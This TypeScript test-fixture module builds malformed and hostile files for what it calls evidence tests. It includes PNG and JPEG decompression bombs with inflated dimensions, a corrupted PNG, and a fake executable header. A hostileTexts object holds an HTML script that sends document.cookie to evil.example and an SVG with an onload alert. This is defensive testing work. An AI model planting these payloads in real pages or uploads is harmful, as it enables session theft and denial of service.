// Hostile and odd files for the evidence tests, built byte by byte.
import { crc32, deflateSync } from 'node:zlib';

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid-looking PNG that claims width×height but holds a few hundred bytes of zeros. */
export function pngBomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  header[9] = 2;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(64 * 1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG whose frame header claims width×height. */
export function jpegBomb(width: number, height: number): Buffer {
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  const sos = Buffer.from([0xff, 0xda, 0x00, 0x0c, 0x03, 1, 0x00, 2, 0x11, 3, 0x11, 0x00, 0x3f, 0x00]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), sof, sos, Buffer.alloc(512), Buffer.from([0xff, 0xd9])]);
}

/** A lossy WebP container with a VP8 frame header for width×height (the frame data itself is filler). */
export function webpFile(width: number, height: number): Buffer {
  const frame = Buffer.alloc(30);
  frame.set([0x9d, 0x01, 0x2a], 3);
  frame.writeUInt16LE(width, 6);
  frame.writeUInt16LE(height, 8);
  const vp8 = Buffer.concat([Buffer.from('VP8 ', 'latin1'), Buffer.alloc(4), frame]);
  vp8.writeUInt32LE(frame.length, 4);
  const riff = Buffer.concat([Buffer.from('RIFF', 'latin1'), Buffer.alloc(4), Buffer.from('WEBP', 'latin1'), vp8]);
  riff.writeUInt32LE(riff.length - 8, 4);
  return riff;
}

/** A PNG with one byte of its image data flipped: the block's checksum no longer matches. */
export function corruptedPng(png: Buffer): Buffer {
  const damaged = Buffer.from(png);
  const idat = damaged.indexOf('IDAT', 0, 'latin1');
  damaged[idat + 40] = (damaged[idat + 40] ?? 0) ^ 0xff;
  return damaged;
}

export const hostileTexts = {
  html: '<!DOCTYPE html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script>hostile-marker-html</body></html>',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>hostile-marker-svg</text></svg>',
  pdf: '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% hostile-marker-pdf\n%%EOF',
  exe: 'MZ\u0090\u0000\u0003\u0000\u0000\u0000This program cannot be run in DOS mode. hostile-marker-exe',
} as const;
